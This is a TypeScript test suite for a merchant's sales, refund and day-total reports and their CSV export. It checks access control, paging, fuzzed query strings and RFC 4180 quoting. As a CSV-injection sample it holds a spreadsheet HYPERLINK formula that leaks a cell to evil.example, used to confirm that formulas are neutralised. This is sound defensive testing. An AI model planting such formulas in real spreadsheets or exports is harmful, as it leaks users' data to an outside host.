/**
 * A merchant's sales, refunds and day totals over real HTTP (issue 14, item 6): only its own,
 * paged with a cursor and bounded, and the CSV export with the session cookie: RFC 4180
 * quoting, and a subject the till sent as a formula stays text (OWASP "CSV Injection").
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { refusal } from './helpers/expect-refusal.ts';
import {
  PASSWORD,
  PAY_PASSWORD,
  type OwnedBand,
  type Terminal,
  merchantWithTerminal,
  newTrade,
  ownerWithBand,
} from './helpers/fixtures.ts';
import { type Harness, cheapTestConfig, startHarness } from '../../harness/checkout-harness.ts';

const DAY = 86_400_000;
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for refund")';

/** RFC 4180 fields: quoted fields may hold commas, doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    expect(text[i], `field at ${i} is quoted`).toBe('"');
    let field = '';
    i++;
    for (;;) {
      if (text[i] === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
        continue;
      }
      if (text[i] === '"') {
        i++;
        break;
      }
      field += text[i++];
    }
    row.push(field);
    if (text[i] === ',') {
      i++;
      continue;
    }
    expect(text.slice(i, i + 2)).toBe('\r\n');
    i += 2;
    rows.push(row);
    row = [];
  }
  return rows;
}

async function paid(shop: Terminal, owner: OwnedBand, amount: number, subject: string): Promise<string> {
  const t = await newTrade(shop, amount, { subject });
  await shop.client.payWithPassword(t.outTradeNo, owner.username, PAY_PASSWORD);
  return t.outTradeNo;
}

/** Logs in through the page's form (Origin set as a browser does) and returns the session cookie. */
async function sessionCookie(url: string, username: string): Promise<string> {
  const r = await fetch(`${url}/login`, {
    method: 'POST',
    redirect: 'manual',
    headers: { origin: url, 'content-type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams({ username, password: PASSWORD }),
  });
  expect(r.status).toBe(303);
  const session = r.headers.getSetCookie().find((c) => c.startsWith('wp_session='));
  return (session as string).split(';')[0];
}

describe('merchant reports', () => {
  let h: Harness;
  let shop: Terminal;
  let other: Terminal;
  let owner: OwnedBand;
  const orders: string[] = [];
  let refundedOrder = '';

  beforeAll(async () => {
    h = await startHarness(cheapTestConfig);
    shop = await merchantWithTerminal(h, 'Noodle Bar');
    other = await merchantWithTerminal(h, 'Tea House');
    owner = await ownerWithBand(h);
    h.clock.advance(-3 * DAY);
    orders.push(await paid(shop, owner, 12_00, 'noodles'));
    orders.push(await paid(shop, owner, 3_50, 'tea, "large"\nno sugar'));
    h.clock.advance(2 * DAY);
    orders.push(await paid(shop, owner, 40_00, FORMULA));
    refundedOrder = orders[0];
    await shop.client.refund(refundedOrder, { outRequestNo: 'rf-1', amount: 2_00, reason: '-cold' });
    h.clock.advance(DAY);
    orders.push(await paid(shop, owner, 1_00, '@SUM(A1:A9)'));
    await paid(other, owner, 99_00, 'not ours');
    // An unpaid trade is no sale.
    await newTrade(shop, 5_00, { subject: 'never paid' });
  });
  afterAll(() => h.close());

  it("lists only this merchant's paid sales, newest first, and pages through them with the cursor", async () => {
    const all = await shop.merchant.sales();
    expect(all.sales.map((s) => s.outTradeNo)).toEqual([...orders].reverse());
    expect(all.nextCursor).toBeNull();
    expect(all.sales[0]).toMatchObject({
      subject: '@SUM(A1:A9)',
      amount: 1_00,
      currency: 'CNY',
      method: 'password',
      terminalName: 'till 1',
    });
    const seen: string[] = [];
    let cursor: string | undefined;
    do {
      const page = await shop.merchant.sales({ limit: 1, cursor });
      expect(page.sales.length).toBeLessThanOrEqual(1);
      seen.push(...page.sales.map((s) => s.outTradeNo));
      cursor = page.nextCursor ?? undefined;
    } while (cursor);
    expect(seen).toEqual(all.sales.map((s) => s.outTradeNo));
    expect((await other.merchant.sales()).sales.map((s) => s.subject)).toEqual(['not ours']);
  });

  it('lists refunds and sums sales and refunds per day', async () => {
    const r = await shop.merchant.merchantRefunds();
    expect(r.refunds).toHaveLength(1);
    expect(r.refunds[0]).toMatchObject({
      outTradeNo: refundedOrder,
      outRequestNo: 'rf-1',
      amount: 2_00,
      currency: 'CNY',
      reason: '-cold',
    });
    const { days } = await shop.merchant.dayTotals();
    expect(days.map((d) => [d.sales, d.count, d.refunds])).toEqual([
      [15_50, 2, 0],
      [40_00, 1, 2_00],
      [1_00, 1, 0],
    ]);
    expect(days.every((d) => /^\d{4}-\d{2}-\d{2}$/.test(d.date) && d.currency === 'CNY')).toBe(true);
    // A range that ends before the last day leaves it out.
    const to = days[1].date;
    expect((await shop.merchant.dayTotals({ to })).days.map((d) => d.date)).toEqual([days[0].date, days[1].date]);
    expect(
      (await shop.merchant.sales({ from: days[2].date, to: days[2].date })).sales.map((s) => s.outTradeNo),
    ).toEqual([orders[3]]);
  });

  it('refuses unbounded or malformed queries, and anyone but the merchant', async () => {
    for (const q of [
      { limit: 501 },
      { limit: 0 },
      { from: '2026-02-31' },
      { from: 'yesterday' },
      { from: '2024-01-01', to: '2026-01-01' },
      { from: '2026-02-02', to: '2026-02-01' },
      { cursor: 'x' },
    ]) {
      await refusal(shop.merchant.sales(q), 'MALFORMED', 400);
      await refusal(shop.merchant.merchantRefunds(q), 'MALFORMED', 400);
    }
    await refusal(owner.client.sales(), 'FORBIDDEN', 403);
    await refusal(h.client.sales(), 'UNAUTHORIZED', 401);
    await refusal(h.client.dayTotals(), 'UNAUTHORIZED', 401);
  });

  it('answers many pages asked at once with the same rows (no 5xx)', async () => {
    const pages = await Promise.all(Array.from({ length: 30 }, () => shop.merchant.sales({ limit: 2 })));
    for (const p of pages) expect(p.sales.map((s) => s.outTradeNo)).toEqual([orders[3], orders[2]]);
  });

  it('hostile query strings, all at once, on every report route: 200 or 400, never a 5xx', async () => {
    const me = await shop.merchant.me();
    const cookie = await sessionCookie(h.server.url, me.username);
    const { token } = await h.client.login(me.username, PASSWORD);
    const values = [
      '',
      ' ',
      '-1',
      '1e3',
      '0x10',
      '9'.repeat(40),
      '99999999999999999',
      'NaN',
      '2026-00-10',
      '2026-1-1',
      '+275760-09-13',
      '0000-01-01',
      '9999-12-31',
      '%00',
      '\u0000',
      'a'.repeat(5000),
      '1.5',
      '[]',
      '{"a":1}',
      '..',
      `${Number.MAX_SAFE_INTEGER}.x`,
      '1.',
      '.x',
      '1.' + 'a'.repeat(65),
    ];
    const urls: Array<{ url: string; headers: Record<string, string> }> = [];
    for (const key of ['from', 'to', 'limit', 'cursor']) {
      for (const v of values) {
        const q = new URLSearchParams({ [key]: v }).toString();
        for (const path of ['/v1/merchant/sales', '/v1/merchant/refunds', '/v1/merchant/day-totals'])
          urls.push({ url: `${path}?${q}`, headers: { authorization: `Bearer ${token}` } });
        for (const path of ['/merchant', '/merchant/sales.csv'])
          urls.push({ url: `${path}?${q}`, headers: { cookie } });
      }
    }
    const statuses = await Promise.all(
      urls.map(async ({ url, headers }) => {
        const r = await fetch(`${h.server.url}${url}`, { headers });
        await r.arrayBuffer();
        return `${r.status} ${url.slice(0, 60)}`;
      }),
    );
    expect(statuses.filter((s) => !/^(200|400) /.test(s))).toEqual([]);
  });

  it('exports the sales as CSV with the session cookie: RFC 4180 quoting, formulas neutralised', async () => {
    const me = await shop.merchant.me();
    const cookie = await sessionCookie(h.server.url, me.username);
    const r = await fetch(`${h.server.url}/merchant/sales.csv`, { headers: { cookie } });
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(r.headers.get('content-disposition')).toMatch(
      /^attachment; filename="sales-\d{4}-\d{2}-\d{2}-to-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    const text = await r.text();
    const rows = parseCsv(text);
    expect(rows[0]).toEqual([
      'paid_at',
      'trade_no',
      'order',
      'terminal_id',
      'terminal_name',
      'subject',
      'amount',
      'currency',
      'method',
      'status',
      'refunded',
    ]);
    const bySubject = new Map(rows.slice(1).map((row) => [row[2], row]));
    expect(rows).toHaveLength(1 + orders.length);
    expect(bySubject.get(orders[2])?.[5]).toBe(`'${FORMULA}`);
    expect(bySubject.get(orders[3])?.[5]).toBe("'@SUM(A1:A9)");
    expect(bySubject.get(orders[1])?.[5]).toBe('tea, "large"\nno sugar');
    expect(bySubject.get(orders[0])?.slice(5)).toEqual([
      'noodles',
      '12.00',
      'CNY',
      'password',
      'TRADE_SUCCESS',
      '2.00',
    ]);
    // No cell begins with a character a spreadsheet would evaluate.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(text).not.toContain('not ours');
  });

  it('gives the CSV to its merchant only', async () => {
    const anonymous = await fetch(`${h.server.url}/merchant/sales.csv`, { redirect: 'manual' });
    expect(anonymous.status).toBe(303);
    expect(anonymous.headers.get('location')).toBe('/login');
    const ownerCookie = await sessionCookie(h.server.url, owner.username);
    expect((await fetch(`${h.server.url}/merchant/sales.csv`, { headers: { cookie: ownerCookie } })).status).toBe(403);
    const me = await shop.merchant.me();
    const cookie = await sessionCookie(h.server.url, me.username);
    expect(
      (await fetch(`${h.server.url}/merchant/sales.csv?from=2020-01-01&to=2026-13-01`, { headers: { cookie } })).status,
    ).toBe(400);
  });
});
